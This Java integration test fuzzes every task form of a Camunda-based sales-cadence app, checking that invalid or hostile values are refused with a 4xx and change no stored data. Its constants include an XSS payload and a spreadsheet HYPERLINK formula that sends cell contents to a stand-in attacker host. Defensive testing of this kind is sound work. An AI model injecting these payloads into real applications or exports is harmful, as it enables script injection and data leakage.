package com.salescadence.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.camunda.bpm.engine.ProcessEngine;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.camunda.bpm.engine.runtime.ProcessInstance;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.salescadence.cadence.accountplan.AccountPlanRevisions;
import com.salescadence.organization.OrganizationAdministration;
import com.salescadence.organization.OrganizationService;
import com.salescadence.pipeline.AccountService;
import com.salescadence.pipeline.AccountTier;
import com.salescadence.pipeline.Lead;
import com.salescadence.pipeline.NewLead;
import com.salescadence.pipeline.process.LeadIntake;
import com.salescadence.support.ApiClient;
import com.salescadence.support.CadenceIntegrationTest;
import com.salescadence.support.StoredRows;
import com.salescadence.support.ProcessDriver;
import com.salescadence.support.TestOrganization;
import com.salescadence.support.WeeklyCycles;
import com.salescadence.workflow.AccountPlanProcess;
import com.salescadence.workflow.MonthlyForecastProcess;
import com.salescadence.workflow.QuarterlyReviewProcess;
import com.salescadence.workflow.WeeklyCommitProcess;

/**
 * Issue 13 item 7: every user task form of forms/ submitted as the Tasklist submits it (POST
 * /engine-rest/task/{id}/submit-form, as the task's assignee) with each field missing, empty, of the wrong type and
 * out of range (negative, NaN, Infinity, huge, a far date, markup, a spreadsheet formula) answers a 4xx with a
 * message, never a 5xx; the task stays open and the product's tables are unchanged.
 *
 * <p>The fields are not listed here: for each real task the test reads the form the Tasklist reads (GET
 * /engine-rest/task/{id}/deployed-form): a Camunda Form's components (key, type, required, min, max, hidden when) or
 * an embedded form's submitted variables ({@code variables: {...}} of the form or the forms-lib script it loads). So
 * a form that gains a field, or becomes an embedded grid, is fuzzed as it is. A valid value per field name
 * ({@link #VALID}) is the baseline every case changes one field of; the baseline itself is submitted last and must be
 * accepted, which proves the refusals were the changed field's. A field without a valid value fails the test.
 *
 * <p>Free text (textarea, textfield) is fuzzed only with what no text field takes (a 100,000 character text, and
 * missing/empty when the form requires it): markup and formulas in free text are accepted as text and escaped where
 * shown (EscapingBrowserTest, the CSV export's quote), as decided in HostileInputIntegrationTest; names refuse a
 * leading formula character (Checks.requiredName). Fields the baseline hides (a loss reason of a deal advanced) are
 * ignored by the server and are not fuzzed. A field the task already holds a value of (a prefilled forecast amount,
 * the model's default of weeks) keeps it when left out, so "missing" is not sent for it. A grid's row without a
 * decision ({}) is no row (as an empty grid) and is accepted; rows of the wrong shape or with hostile values are not.
 * Of a run of numbered fields alike (amount1..amount12: one type, one rule) the first and the last are fuzzed.
 *
 * <p>One real task per form kind is brought into existence by the processes themselves (one deal per path of
 * lead-to-cash, one weekly cycle, one monthly cycle, one quarterly cycle, one account plan revision and tier review).
 */
@CadenceIntegrationTest
class FormFuzzIntegrationTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String REP = TestOrganization.REP;
    private static final String MANAGER = TestOrganization.MANAGER;
    private static final String FINANCE = TestOrganization.FINANCE;
    private static final String MARKUP = "<img src=x onerror=alert(1)>";
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    private static final String HUGE_TEXT = "x".repeat(100_000);
    private static final Pattern SUBMITTED = Pattern.compile("variables:\\s*\\{([^}]*)}");
    private static final Pattern SCRIPT = Pattern.compile("forms-lib/([\\w-]+\\.js)");
    private static final Pattern HIDE = Pattern.compile("=\\s*(\\w+)\\s*(!=|=)\\s*\"([^\"]*)\"");

    /** A valid value of each field name, as the Tasklist submits it. */
    private static final Map<String, Object> VALID = new HashMap<>();

    static {
        String nextMonth = LocalDate.now().plusMonths(1).toString();
        for (String[] text : new String[][] {{"budget", "In the plan"}, {"authority", "CIO"}, {"need", "Manual picking"},
                {"timeline", "This quarter"}, {"opportunityName", "Fuzzed MES"}, {"evidence", "Confirmed in writing"},
                {"decisionComment", "Checked"}, {"goNoGoReason", "Strategic account"}, {"creditNote", "Rated A"},
                {"deliveryNote", "Accepted"}, {"paymentReference", "FUZZ-1"}, {"chaseNote", "Called, due tomorrow"},
                {"direction", "Grow share of wallet"}, {"teamMembers", "t.rep1"}, {"executiveSummary", "Summary"},
                {"strategicOptions", "Options"}, {"businessRisks", "Risks"}, {"customerAnalysis", "Analysis"},
                {"goalsObjectives", "Goals"}, {"actionsResources", "Actions"}, {"appendix", "None"},
                {"reviewComment", "Good"}, {"reviewNotes", "Reviewed"}, {"actionPlan", "Close two deals"},
                {"nextQuarterPlan", "Two new accounts"}, {"projectTracking", "On track"}, {"callNotes", "Call held"},
                {"collectiveNotes", "Tiers kept"}, {"lossReason", "Price"}, {"disqualifyReason", "No budget"},
                {"meetingMinutes", "Went through the pipeline"}, {"meetingDecisions", "Push one deal"}, {"actionOutcome", "Done"}}) {
            VALID.put(text[0], Map.of("value", text[1]));
        }
        for (String[] choice : new String[][] {{"qualificationDecision", "qualify"}, {"stageAction", "advance"},
                {"advanceDecision", "approve"}, {"goDecision", "go"}, {"dealOutcome", "won"}, {"creditDecision", "approve"},
                {"reviewDecision", "approve"}, {"onTrack", "yes"}}) {
            VALID.put(choice[0], Map.of("value", choice[1]));
        }
        VALID.put("amount", Map.of("value", 449000));
        VALID.put("expectedCloseDate", Map.of("value", nextMonth));
        VALID.put("outcomesMet", Map.of("value", "[\"NEED_UNDERSTOOD\",\"MARKET_INFO_CONFIRMED\"]", "type", "Json"));
        VALID.put("claimedProbability", Map.of("value", 25));
        VALID.put("deliveredOn", Map.of("value", LocalDate.now().toString()));
        VALID.put("paymentAmount", Map.of("value", 100));
        VALID.put("paymentDate", Map.of("value", LocalDate.now().toString()));
        VALID.put("developWeeks", Map.of("value", 10));
        VALID.put("proposedTarget", Map.of("value", 300000));
        for (int i = 1; i <= 12; i++) {
            VALID.put("forecastYear" + i, Map.of("value", 1000000));
            VALID.put("amount" + i, Map.of("value", 10000));
        }
        for (String grid : List.of("commitItems", "adjustments", "targets", "secondTierAccounts", "months", "years")) {
            VALID.put(grid, Map.of("value", "[]", "type", "String", "valueInfo", Map.of("transient", true)));
        }
    }

    /** The form files fuzzed by the tests of this class. */
    private static final Set<String> FUZZED = new TreeSet<>();
    private static final List<String> FINDINGS = new ArrayList<>();

    @LocalServerPort int port;
    @Autowired com.salescadence.meeting.MeetingService meetings;
    @Autowired OrganizationService organization;
    @Autowired OrganizationAdministration administration;
    @Autowired AccountService accounts;
    @Autowired LeadIntake intake;
    @Autowired com.salescadence.cadence.CycleService cycles;
    @Autowired AccountPlanRevisions revisions;
    @Autowired JdbcTemplate jdbc;
    @Autowired ProcessEngine engine;

    private ApiClient api;
    private ProcessDriver driver;
    private StoredRows stored;

    @BeforeEach
    void setUp() {
        TestOrganization.ensure(organization, administration);
        api = new ApiClient("http://localhost:" + port);
        driver = new ProcessDriver(engine);
        stored = new StoredRows(jdbc);
    }

    @AfterEach
    void clock() {
        ClockUtil.reset();
    }

    @AfterAll
    static void every_form_was_fuzzed_and_nothing_was_found() throws Exception {
        Set<String> forms = new TreeSet<>();
        try (Stream<Path> files = Files.list(Path.of("forms"))) {
            files.map(f -> f.getFileName().toString()).filter(f -> f.endsWith(".form") || f.endsWith(".html")).forEach(forms::add);
        }
        assertThat(FINDINGS).as("refusals that were not a 4xx with a message, the task open and nothing stored").isEmpty();
        if (FUZZED.size() > 1) { // (the whole class ran, not one test of it)
            assertThat(FUZZED).as("every form of forms/ fuzzed").containsAll(forms);
        }
    }

    @Test
    void the_forms_of_a_deal_from_lead_to_payment() throws Exception {
        // a small deal: qualification, outcome, credit check, delivery, payment
        ProcessInstance small = newLead("40000");
        fuzz(small, "Task_QualifyLead", REP, Map.of("amount", Map.of("value", 40000)));
        fuzz(small, "Task_RecordSmallDealOutcome", REP, Map.of());
        fuzz(small, "Task_CreditCheck", FINANCE, Map.of());
        fuzz(small, "Task_ConfirmDelivery", REP, Map.of());
        fuzz(small, "Task_RecordPayment", FINANCE, Map.of());

        // a large deal: go / no-go by the manager, stage work, the advance's approval
        ProcessInstance large = newLead("1500000");
        submit(openTask(large, "Task_QualifyLead"), REP, baseline(Map.of("amount", Map.of("value", 1500000)),
                fieldsOf(openTask(large, "Task_QualifyLead"), REP)), 204);
        fuzz(large, "Task_GoNoGoAssessment", MANAGER, Map.of());
        fuzz(large, "Task_WorkStage", REP, Map.of());
        fuzz(large, "Task_ApproveStageAdvance", MANAGER, Map.of());
    }

    @Test
    void the_forms_of_a_week() throws Exception {
        WeeklyCycles weeks = new WeeklyCycles(engine);
        LocalDateTime sunday = LocalDateTime.of(2025, 3, 2, 8, 0);
        String key = weeks.open(sunday);
        ProcessInstance commit = weeks.instance(WeeklyCommitProcess.SUBMISSION_KEY, key + ":" + REP);
        fuzz(commit, WeeklyCommitProcess.TASK_SUBMIT_WEEKLY_COMMIT, REP, Map.of());
        weeks.submitEmptyCommit(key, TestOrganization.OTHER_REP);
        // Monday 08:00 the teammate's commit is missing: the manager chases it; 09:00 the commit calls open
        ProcessDriver.setClock(sunday.plusHours(24));
        weeks.runDueJobs(key);
        fuzz(weeks.instance(WeeklyCommitProcess.SUBMISSION_KEY, key + ":" + TestOrganization.TEAMMATE),
                WeeklyCommitProcess.TASK_CHASE_MISSING_COMMIT, MANAGER, Map.of());
        ProcessDriver.setClock(sunday.plusHours(25));
        weeks.runDueJobs(key);
        fuzz(weeks.instance(WeeklyCommitProcess.ROLLUP_KEY, key + ":" + MANAGER), WeeklyCommitProcess.TASK_RUN_COMMIT_CALL,
                MANAGER, Map.of());
        ProcessInstance other = weeks.instance(WeeklyCommitProcess.ROLLUP_KEY, key + ":" + TestOrganization.OTHER_MANAGER);
        Task otherCall = openTask(other, WeeklyCommitProcess.TASK_RUN_COMMIT_CALL);
        submit(otherCall, TestOrganization.OTHER_MANAGER, baseline(Map.of(), fieldsOf(otherCall, TestOrganization.OTHER_MANAGER)), 204);
        // Tuesday: the leader reviews the roll-up of the managers
        ProcessDriver.setClock(sunday.plusHours(49));
        weeks.runDueJobs(key);
        fuzz(weeks.instance(WeeklyCommitProcess.ROLLUP_KEY, key + ":" + TestOrganization.LEADER), WeeklyCommitProcess.TASK_REVIEW_ROLLUP,
                TestOrganization.LEADER, Map.of());
    }

    @Test
    void the_forms_of_a_meeting() throws Exception {
        LocalDateTime monday = LocalDateTime.of(2025, 9, 1, 8, 0);
        ProcessDriver.setClock(monday);
        engine.getRuntimeService().startProcessInstanceByKey(com.salescadence.workflow.MeetingProcess.KEY,
                Map.of(com.salescadence.workflow.MeetingProcess.CYCLE_START, ProcessDriver.date(monday)));
        new ProcessDriver(engine).runDueJobs("meetings:");
        ProcessInstance hold = new ProcessDriver(engine).instance(com.salescadence.workflow.MeetingProcess.HOLD_KEY,
                "one-on-one-2025-W36-" + MANAGER + "-" + REP);
        meetings.saveMinutes(((Number) engine.getRuntimeService().getVariable(hold.getId(),
                        com.salescadence.workflow.MeetingProcess.MEETING_ID)).longValue(), null, null,
                List.of(new com.salescadence.meeting.ActionInput("Send the quote", REP, monday.toLocalDate().plusDays(4))));
        fuzz(hold, com.salescadence.workflow.MeetingProcess.TASK_HOLD_MEETING, MANAGER, Map.of());
        Task action = engine.getTaskService().createTaskQuery()
                .taskDefinitionKey(com.salescadence.workflow.MeetingProcess.TASK_DO_ACTION_ITEM).taskAssignee(REP).singleResult();
        fuzzTask(action, REP, Map.of());
    }

    @Test
    void the_forms_of_a_month() throws Exception {
        LocalDateTime start = LocalDateTime.of(2024, 7, 1, 9, 0);
        ProcessDriver.setClock(start);
        engine.getRuntimeService().startProcessInstanceByKey(MonthlyForecastProcess.KEY,
                Map.of(MonthlyForecastProcess.CYCLE_START, ProcessDriver.date(start)));
        String key = "2024-07";
        driver.runDueJobs(key);
        // (the twelve months as a grid posts them, for when the form is one: [{month, amount}] from the cycle's first month)
        java.time.YearMonth first = com.salescadence.cadence.forecast.MonthlyForecastService.firstMonth(
                cycles.find(com.salescadence.cadence.Cadence.MONTHLY_FORECAST, key).orElseThrow());
        List<Map<String, Object>> months = new ArrayList<>();
        for (int i = 0; i < 12; i++) {
            months.add(Map.of("month", first.plusMonths(i).toString(), "amount", "10000"));
        }
        Map<String, Object> grid = Map.of(MonthlyForecastProcess.F_MONTHS, transientText(JSON.writeValueAsString(months)));
        fuzz(submission(MonthlyForecastProcess.SUBMISSION_KEY, key, REP), MonthlyForecastProcess.TASK_SUBMIT_MONTHLY_FORECAST, REP, grid);
        for (String rep : List.of(TestOrganization.OTHER_REP)) {
            Task task = openTask(submission(MonthlyForecastProcess.SUBMISSION_KEY, key, rep), MonthlyForecastProcess.TASK_SUBMIT_MONTHLY_FORECAST);
            submit(task, rep, baseline(grid, fieldsOf(task, rep)), 204);
        }
        // past the deadline: the missing forecasts are chased
        ProcessDriver.setClock(start.plusDays(10));
        driver.runDueJobs(key);
        Task chase = engine.getTaskService().createTaskQuery().taskDefinitionKey(MonthlyForecastProcess.TASK_CHASE_MISSING_FORECAST)
                .list().stream().findFirst().orElseThrow(() -> new AssertionError("no chase of a missing forecast"));
        fuzzTask(chase, chase.getAssignee(), Map.of());
        Task review = engine.getTaskService().createTaskQuery().taskDefinitionKey(MonthlyForecastProcess.TASK_REVIEW_MONTHLY_FORECAST)
                .list().stream().findFirst().orElseThrow(() -> new AssertionError("no forecast review"));
        fuzzTask(review, review.getAssignee(), Map.of());
    }

    @Test
    void the_forms_of_a_quarter() throws Exception {
        LocalDateTime start = LocalDateTime.of(2024, 4, 8, 9, 0); // Monday of week 2 of 2024-Q2: the review of 2024-Q1
        ProcessDriver.setClock(start);
        engine.getRuntimeService().startProcessInstanceByKey(QuarterlyReviewProcess.KEY,
                Map.of(QuarterlyReviewProcess.CYCLE_START, ProcessDriver.date(start)));
        driver.runDueJobs("2024-Q1");
        Task prepare = task(QuarterlyReviewProcess.TASK_PREPARE_QUARTERLY_REVIEW, REP);
        fuzzTask(prepare, REP, Map.of());
        submit(task(QuarterlyReviewProcess.TASK_PREPARE_QUARTERLY_REVIEW, TestOrganization.OTHER_REP), TestOrganization.OTHER_REP,
                baseline(Map.of(), fieldsOf(task(QuarterlyReviewProcess.TASK_PREPARE_QUARTERLY_REVIEW, TestOrganization.OTHER_REP),
                        TestOrganization.OTHER_REP)), 204);
        for (int day = 1; day <= 30 && engine.getTaskService().createTaskQuery()
                .taskDefinitionKey(QuarterlyReviewProcess.TASK_RUN_QUARTERLY_REVIEW).count() == 0; day++) {
            ProcessDriver.setClock(start.plusDays(day));
            driver.runDueJobs("2024-Q1");
        }
        Task chase = engine.getTaskService().createTaskQuery().taskDefinitionKey(QuarterlyReviewProcess.TASK_CHASE_MISSING_PREPARATION)
                .list().stream().findFirst().orElseThrow(() -> new AssertionError("no chase of a missing preparation"));
        fuzzTask(chase, chase.getAssignee(), Map.of());
        Task meeting = engine.getTaskService().createTaskQuery().taskDefinitionKey(QuarterlyReviewProcess.TASK_RUN_QUARTERLY_REVIEW)
                .list().stream().findFirst().orElseThrow(() -> new AssertionError("no quarterly review meeting"));
        fuzzTask(meeting, meeting.getAssignee(), Map.of("targets", transientText(rows(
                Map.of("personId", REP, "target", 300000, "outcome", "Agreed"),
                Map.of("personId", TestOrganization.TEAMMATE, "target", 200000, "outcome", "Agreed")))));
    }

    @Test
    void the_forms_of_an_account_plan() throws Exception {
        LocalDateTime start = LocalDateTime.of(2022, 1, 4, 9, 0);
        ProcessDriver.setClock(start);
        var account = accounts.create("Fuzz plan account " + System.nanoTime(), AccountTier.KEY, "Logistics", REP);
        ProcessInstance revision = revisions.start(account.id(), 2022, ProcessDriver.date(start));
        String prefix = "account:" + account.id() + ":";
        fuzz(revision, AccountPlanProcess.TASK_PREPARE_PLAN, TestOrganization.LEADER, Map.of());
        // the plan is late: the manager chases it
        ProcessDriver.setClock(start.plusWeeks(11));
        driver.runDueJobs(prefix);
        fuzz(revision, AccountPlanProcess.TASK_CHASE_LATE_PLAN, MANAGER, Map.of());
        // the five years as the grid posts them: [{year, amount}] from the plan's year on
        fuzz(revision, AccountPlanProcess.TASK_DEVELOP_PLAN, REP, Map.of(AccountPlanProcess.F_YEARS, transientText(rows(
                Map.of("year", 2022, "amount", 1000000), Map.of("year", 2023, "amount", 1100000), Map.of("year", 2024, "amount", 1200000),
                Map.of("year", 2025, "amount", 1300000), Map.of("year", 2026, "amount", 1400000)))));
        fuzz(revision, AccountPlanProcess.TASK_REVIEW_PLAN, TestOrganization.LEADER, Map.of());
        for (int week = 12; week <= 30 && engine.getTaskService().createTaskQuery().processInstanceId(revision.getId())
                .taskDefinitionKey(AccountPlanProcess.TASK_QUARTERLY_PLAN_REVIEW).count() == 0; week++) {
            ProcessDriver.setClock(start.plusWeeks(week));
            driver.runDueJobs(prefix);
        }
        fuzz(revision, AccountPlanProcess.TASK_QUARTERLY_PLAN_REVIEW, MANAGER, Map.of());

        // the yearly tier review of a manager
        var second = accounts.create("Fuzz second tier " + System.nanoTime(), AccountTier.SECOND, "Retail", REP);
        ProcessInstance tiers = engine.getRuntimeService().startProcessInstanceByKey(AccountPlanProcess.TIER_REVIEW_KEY,
                "account-plans:2022:" + MANAGER, Map.of(AccountPlanProcess.MANAGER_ID, MANAGER, AccountPlanProcess.PLAN_YEAR, 2022,
                        AccountPlanProcess.CYCLE_START, ProcessDriver.date(start)));
        fuzz(tiers, AccountPlanProcess.TASK_ANNUAL_TIER_REVIEW, MANAGER, Map.of(AccountPlanProcess.SECOND_TIER_ROWS,
                transientText(rows(Map.of("accountId", second.id(), "notes", "Stays second tier")))));
    }

    // ------------------------------------------------------------------ the fuzzing

    private record Field(String name, String type, boolean required, BigDecimal min, BigDecimal max) {
    }

    private void fuzz(ProcessInstance instance, String activity, String user, Map<String, Object> overrides) throws Exception {
        fuzzTask(openTask(instance, activity), user, overrides);
    }

    /** Each field of the task's form changed alone to each hostile value, then the baseline, which must be accepted. */
    private void fuzzTask(Task task, String user, Map<String, Object> overrides) throws Exception {
        List<Field> fields = fieldsOf(task, user);
        Map<String, Object> baseline = baseline(overrides, fields);
        String form = formName(task, user);
        FUZZED.add(form);
        String before = stored.now();
        long started = System.nanoTime();
        int cases = 0;
        for (Field field : fieldsToFuzz(fields)) {
            Map<String, Object> hostileValues = hostileValues(field);
            if (engine.getTaskService().getVariable(task.getId(), field.name()) != null) {
                hostileValues.remove("missing"); // prefilled: a field left out keeps the value it shows
            }
            for (Map.Entry<String, Object> hostile : hostileValues.entrySet()) {
                cases++;
                Map<String, Object> variables = new LinkedHashMap<>(baseline);
                if (hostile.getValue() == null) {
                    variables.remove(field.name());
                } else {
                    variables.put(field.name(), hostile.getValue());
                }
                String what = form + " " + field.name() + " " + hostile.getKey();
                HttpResponse<String> answer = api.post(user, "/engine-rest/task/" + task.getId() + "/submit-form",
                        JSON.writeValueAsString(Map.of("variables", variables)));
                if (answer.statusCode() < 400 || answer.statusCode() >= 500 || StoredRows.message(answer.body()).isBlank()) {
                    FINDINGS.add(what + " -> " + answer.statusCode() + " " + StoredRows.abbreviated(answer.body()));
                }
                if (engine.getTaskService().createTaskQuery().taskId(task.getId()).count() != 1) {
                    FINDINGS.add(what + ": the task was completed");
                    return; // (the rest of this form cannot be fuzzed on this task)
                }
            }
            // (compared once per field, not per value: the walk stays fast; a change names the field)
            String after = stored.now();
            if (!after.equals(before)) {
                FINDINGS.add(form + " " + field.name() + ": a refused value changed the product's tables");
                before = after;
            }
        }
        submit(task, user, baseline, 204);
        System.out.printf("form fuzz: %s, %d fields, %d values refused in %d ms%n", form, fields.size(), cases,
                (System.nanoTime() - started) / 1_000_000);
    }

    /**
     * The fields to fuzz: every field, except that of a run of numbered fields alike (amount1..amount12 of one type and
     * bounds, checked by one rule) only the first and the last are, to keep the walk fast.
     */
    private static List<Field> fieldsToFuzz(List<Field> fields) {
        Map<Field, List<Field>> runs = new LinkedHashMap<>();
        for (Field field : fields) {
            Field kind = new Field(field.name().replaceAll("\\d+$", "#"), field.type(), field.required(), field.min(), field.max());
            runs.computeIfAbsent(kind, k -> new ArrayList<>()).add(field);
        }
        List<Field> chosen = new ArrayList<>();
        for (List<Field> run : runs.values()) {
            chosen.add(run.get(0));
            if (run.size() > 1) {
                chosen.add(run.get(run.size() - 1));
            }
        }
        return chosen;
    }

    /** The hostile values of a field: a label and the variable sent (null: the field is left out). */
    private static Map<String, Object> hostileValues(Field field) {
        Map<String, Object> values = new LinkedHashMap<>();
        if (field.required()) {
            values.put("missing", null);
            values.put("null", nullValue());
            values.put("empty", Map.of("value", ""));
            values.put("blank", Map.of("value", "   "));
        }
        switch (field.type()) {
            case "number" -> {
                values.put("text", Map.of("value", "abc"));
                values.put("boolean", Map.of("value", true));
                values.put("NaN", Map.of("value", "NaN", "type", "Double"));
                values.put("NaN text", Map.of("value", "NaN"));
                values.put("Infinity", Map.of("value", "Infinity", "type", "Double"));
                values.put("negative", Map.of("value", -1));
                values.put("huge", Map.of("value", 1e30));
                values.put("huger than a double", Map.of("value", "1e400"));
                values.put("markup", Map.of("value", MARKUP));
                values.put("formula", Map.of("value", FORMULA));
                values.put("a list", Map.of("value", "[1, 2]", "type", "Json"));
                if (field.max() != null) {
                    values.put("above the maximum", Map.of("value", field.max().add(BigDecimal.ONE)));
                }
                if (field.min() != null && field.min().signum() > 0) {
                    values.put("below the minimum", Map.of("value", field.min().subtract(BigDecimal.ONE)));
                }
            }
            case "datetime" -> {
                values.put("text", Map.of("value", "next week"));
                values.put("number", Map.of("value", 20270131));
                values.put("no such hour", Map.of("value", "2027-01-31T25:99"));
                values.put("far past", Map.of("value", "-999999999-01-01"));
                values.put("far future", Map.of("value", "9999-12-31"));
                values.put("far future date", Map.of("value", "9999-12-31T00:00:00.000+0000", "type", "Date"));
                values.put("markup", Map.of("value", MARKUP));
                values.put("formula", Map.of("value", FORMULA));
            }
            case "radio", "select" -> {
                values.put("no choice", Map.of("value", "maybe"));
                values.put("number", Map.of("value", 42));
                values.put("markup", Map.of("value", MARKUP));
                values.put("formula", Map.of("value", FORMULA));
                values.put("a list", Map.of("value", "[\"approve\"]", "type", "Json"));
            }
            case "checklist" -> {
                values.put("a null", Map.of("value", "[null]", "type", "Json"));
                values.put("nested", Map.of("value", "[[1]]", "type", "Json"));
                values.put("no such value", Map.of("value", "[\"NO_SUCH_OUTCOME\"]", "type", "Json"));
                values.put("markup", Map.of("value", "[\"" + MARKUP.replace("\"", "\\\"") + "\"]", "type", "Json"));
                values.put("formula", Map.of("value", FORMULA));
                values.put("number", Map.of("value", 42));
            }
            case "grid" -> {
                values.put("no JSON", transientText("not json"));
                values.put("a number", Map.of("value", 42));
                values.put("an object", transientText("{\"a\": 1}"));
                values.put("a null row", transientText("[null]"));
                values.put("a number row", transientText("[1]"));
                values.put("a text row", transientText("[\"" + MARKUP.replace("\"", "\\\"") + "\"]"));
                values.put("a nested row", transientText("[[1, 2]]"));
                values.put("a row of hostile values", transientText(hostileRow()));
            }
            default -> values.put("huge", Map.of("value", HUGE_TEXT));
        }
        return values;
    }

    /** A row whose every usual key (ids, amounts, dates, categories, notes) holds a hostile value. */
    private static String hostileRow() {
        Map<String, Object> row = new LinkedHashMap<>();
        for (String id : List.of("opportunityId", "personId", "accountId", "id")) {
            row.put(id, MARKUP);
        }
        for (String number : List.of("amount", "commitAmount", "commit", "upside", "target", "forecast")) {
            row.put(number, "NaN");
        }
        row.put("closeDate", "-999999999-01-01");
        row.put("month", "9999-99");
        row.put("category", FORMULA);
        row.put("tier", MARKUP);
        row.put("reason", HUGE_TEXT.substring(0, 5000));
        try {
            return JSON.writeValueAsString(List.of(row));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    @SafeVarargs
    private static String rows(Map<String, Object>... rows) {
        try {
            return JSON.writeValueAsString(List.of(rows));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static Map<String, Object> transientText(String text) {
        return Map.of("value", text, "type", "String", "valueInfo", Map.of("transient", true));
    }

    private static Map<String, Object> nullValue() {
        Map<String, Object> value = new HashMap<>();
        value.put("value", null);
        return value;
    }

    /** The baseline: a valid value for every field of the form (overrides first). */
    private static Map<String, Object> baseline(Map<String, Object> overrides, List<Field> fields) {
        Map<String, Object> baseline = new LinkedHashMap<>();
        for (Field field : fields) {
            Object value = overrides.containsKey(field.name()) ? overrides.get(field.name()) : VALID.get(field.name());
            assertThat(value).as("a valid value of the field " + field.name() + " (add it to VALID)").isNotNull();
            baseline.put(field.name(), value);
        }
        return baseline;
    }

    /** The fields the task's form submits, read from the form the Tasklist reads for it. */
    private List<Field> fieldsOf(Task task, String user) throws Exception {
        HttpResponse<String> form = api.get(user, "/engine-rest/task/" + task.getId() + "/deployed-form");
        assertThat(form.statusCode()).as("the deployed form of " + task.getTaskDefinitionKey() + ": " + form.body()).isEqualTo(200);
        String body = form.body();
        List<Field> fields = new ArrayList<>();
        if (body.trim().startsWith("{")) {
            JsonNode root = JSON.readTree(body);
            Map<String, String> visible = new HashMap<>();
            collect(root, fields, visible);
            return fields;
        }
        StringBuilder sources = new StringBuilder(body);
        Matcher script = SCRIPT.matcher(body);
        while (script.find()) {
            sources.append(Files.readString(Path.of("src/main/resources/static/forms-lib", script.group(1))));
        }
        // a form that builds its variables in a loop names them on its root: <form data-submits="a,b,...">
        Matcher declared = Pattern.compile("data-submits=\"([^\"]*)\"").matcher(body);
        if (declared.find()) {
            for (String name : declared.group(1).split(",")) {
                boolean grid = VALID.get(name.trim()) instanceof Map<?, ?> valid && "String".equals(valid.get("type"));
                fields.add(new Field(name.trim(), grid ? "grid" : "textarea", false, null, null));
            }
        }
        // (comments of the scripts describe the call with placeholders: not read)
        Matcher submitted = SUBMITTED.matcher(sources.toString().replaceAll("(?s)/\\*.*?\\*/", ""));
        while (submitted.find()) {
            for (String part : submitted.group(1).split(",")) {
                String name = part.split(":")[0].trim();
                if (name.matches("[A-Za-z]\\w*") && fields.stream().noneMatch(f -> f.name().equals(name))) {
                    boolean grid = VALID.get(name) instanceof Map<?, ?> valid && "String".equals(valid.get("type"));
                    // (a field whose valid value is a number, the proposed target, is fuzzed as a number)
                    boolean number = !grid && VALID.get(name) instanceof Map<?, ?> valid && valid.get("value") instanceof Number;
                    fields.add(new Field(name, grid ? "grid" : number ? "number" : "textarea", false, null, null));
                }
            }
        }
        assertThat(fields).as("the variables " + task.getTaskDefinitionKey() + "'s embedded form submits").isNotEmpty();
        return fields;
    }

    /** The input fields of a Camunda Form, skipping read-only ones and those the baseline hides. */
    private static void collect(JsonNode component, List<Field> fields, Map<String, String> unused) {
        if (component.hasNonNull("key") && !component.path("readonly").asBoolean(false) && !component.path("disabled").asBoolean(false)
                && !hiddenByBaseline(component.path("conditional").path("hide").asText(""))) {
            JsonNode validate = component.path("validate");
            fields.add(new Field(component.get("key").asText(), component.path("type").asText(),
                    validate.path("required").asBoolean(false),
                    validate.has("min") ? new BigDecimal(validate.get("min").asText()) : null,
                    validate.has("max") ? new BigDecimal(validate.get("max").asText()) : null));
        }
        for (JsonNode child : component.path("components")) {
            collect(child, fields, unused);
        }
    }

    /** Whether a component's "hide" condition ({@code =field = "x"} or {@code !=}) holds for the baseline's values. */
    private static boolean hiddenByBaseline(String hide) {
        Matcher condition = HIDE.matcher(hide);
        if (!condition.matches()) {
            return false;
        }
        Object valid = VALID.get(condition.group(1));
        String value = valid instanceof Map<?, ?> map ? String.valueOf(map.get("value")) : null;
        boolean equal = condition.group(3).equals(value);
        return condition.group(2).equals("=") == equal;
    }

    private String formName(Task task, String user) throws Exception {
        HttpResponse<String> form = api.get(user, "/engine-rest/task/" + task.getId() + "/form");
        JsonNode key = JSON.readTree(form.body());
        String formKey = key.path("key").asText("");
        if (formKey.contains("forms/")) {
            return formKey.substring(formKey.lastIndexOf('/') + 1);
        }
        // a Camunda Form bound by formRef: its id is the file's name
        HttpResponse<String> deployed = api.get(user, "/engine-rest/task/" + task.getId() + "/deployed-form");
        return JSON.readTree(deployed.body()).path("id").asText() + ".form";
    }

    private void submit(Task task, String user, Map<String, Object> variables, int expected) throws Exception {
        HttpResponse<String> answer = api.post(user, "/engine-rest/task/" + task.getId() + "/submit-form",
                JSON.writeValueAsString(Map.of("variables", variables)));
        assertThat(answer.statusCode()).as("the valid baseline of " + task.getTaskDefinitionKey() + ": " + answer.body())
                .isEqualTo(expected);
    }


    private ProcessInstance newLead(String amount) {
        Lead lead = intake.receive(new NewLead(TestOrganization.account(accounts, REP).id(), REP, "Fuzzed deal", "Web",
                new BigDecimal(amount)));
        return driver.instance("lead-to-cash", String.valueOf(lead.id()));
    }

    private ProcessInstance submission(String processKey, String cycleKey, String rep) {
        return driver.instance(processKey, cycleKey + ":" + rep);
    }

    private Task task(String activity, String assignee) {
        Task task = engine.getTaskService().createTaskQuery().taskDefinitionKey(activity).taskAssignee(assignee).singleResult();
        assertThat(task).as(activity + " of " + assignee).isNotNull();
        return task;
    }

    private Task openTask(ProcessInstance instance, String activity) {
        return driver.task(instance, activity);
    }


}
